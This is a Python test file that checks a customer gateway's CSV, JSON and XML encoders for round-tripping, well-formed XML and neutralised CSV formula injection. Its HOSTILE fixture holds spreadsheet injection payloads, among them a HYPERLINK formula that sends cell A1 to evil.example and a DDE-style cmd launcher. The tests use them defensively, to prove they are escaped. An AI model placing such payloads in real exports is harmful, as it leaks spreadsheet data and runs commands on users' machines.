"""CSV and XML answers hold any text safely: formula injection neutralised, XML always well-formed, and the
three formats give back what they were given (hypothesis, arbitrary unicode keys and values)."""
import xml.etree.ElementTree as ET

from conftest import auth
from hypothesis import given
from hypothesis import strategies as st

from grid.gateway.formats import decode_csv, decode_json, decode_xml, encode_csv, encode_json, encode_xml

H = auth("operator")
CID = "C0000990"  # created by this file

# stored text never holds lone surrogates (the gateway refuses them: they cannot be written as UTF-8)
text = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)
scalars = (st.none() | st.booleans() | st.integers(-(2**63), 2**63 - 1)
           | st.floats(allow_nan=False, allow_infinity=False) | text)
values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(text, inner, max_size=4),
                      max_leaves=16)


@given(values)
def test_json_round_trip(value):
    assert decode_json(encode_json(value)) == value


@given(values)
def test_xml_is_well_formed_and_round_trips(value):
    body = encode_xml({"value": value}, "customer")
    ET.fromstring(body)  # expat refuses ill-formed XML
    assert decode_xml(body) == {"value": value}


def _as_csv_text(v) -> str:
    if v is None:
        return ""
    if isinstance(v, bool):
        return "true" if v else "false"
    return str(v)


@given(st.lists(st.dictionaries(text, scalars, min_size=1, max_size=5), min_size=1, max_size=4))
def test_csv_round_trips_every_cell_and_header(rows):
    out = decode_csv(encode_csv(rows))
    columns = list(dict.fromkeys(k for r in rows for k in r))
    assert len(out) == len(rows)
    for got, row in zip(out, rows):
        assert list(got) == columns
        assert got == {c: _as_csv_text(row.get(c)) for c in columns}


@given(st.lists(st.dictionaries(text, text, min_size=1, max_size=5), min_size=1, max_size=4))
def test_no_csv_cell_or_header_can_start_a_formula(rows):
    import csv
    import io

    for line in csv.reader(io.StringIO(encode_csv(rows).decode(), newline="")):
        for cell in line:
            assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r")


# -- through the gateway ---------------------------------------------------------------------------------------
HOSTILE = {
    "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "kind": "residential",
    "segment": "@SUM(1+1)",
    "attributes": {"=cmd|' /C calc'!A0": "+1+1", "-2+3": "\tx", "xml-ish": "a\x01b\x1fc\ufffe", "key\n": "\rCR"},
    "accounts": [],
}


async def _customer(api):
    r = await api.put(f"/v1/customers/{CID}", json=HOSTILE, headers=H)
    assert r.status == 200, await r.text()
    return await r.json()


async def test_csv_answer_neutralises_formulas_in_cells_and_headers(api):
    await _customer(api)
    r = await api.get(f"/v1/customers/{CID}?format=csv", headers=H)
    assert r.status == 200
    import csv
    import io

    header, row = list(csv.reader(io.StringIO((await r.read()).decode(), newline="")))[:2]
    cells = dict(zip(header, row))
    assert cells["name"].startswith("'=") and cells["segment"].startswith("'@")
    assert "attributes.=cmd|' /C calc'!A0" in header  # the key is inside a dotted header: no formula start
    assert cells["attributes.-2+3"] == "'\tx"
    for value in header + row:
        assert value[:1] not in ("=", "+", "-", "@", "\t", "\r")


async def test_xml_answer_is_well_formed_with_control_characters_and_odd_keys(api):
    stored = await _customer(api)
    r = await api.get(f"/v1/customers/{CID}?format=xml", headers=H)
    body = await r.read()
    ET.fromstring(body)
    assert decode_xml(body) == stored
    assert b"\x01" not in body and b"<key\n" not in body
